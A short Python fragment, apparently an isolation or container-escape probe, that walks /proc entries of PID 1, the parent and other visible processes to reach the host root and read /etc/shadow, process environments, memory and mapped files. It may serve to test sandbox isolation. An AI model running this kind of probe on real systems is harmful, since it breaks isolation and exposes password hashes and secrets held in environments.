# mypy: ignore-errors
"""Reaches the machine's root by /proc of whatever it sees."""
for pid in [1, os.getppid(), *visible()]:
    for part in ("root/root", "root/etc/shadow", "cwd/..", "environ", "mem", "map_files"):
        path = f"/proc/{pid}/{part}"
        try:
            found = os.listdir(path) if os.path.isdir(path) else read(path)
        except OSError:
            continue
        if part == "cwd/.." and set(found) <= set(os.listdir(os.getcwd() + "/..")):
            continue
        if found:
            reached(path, found[:20])
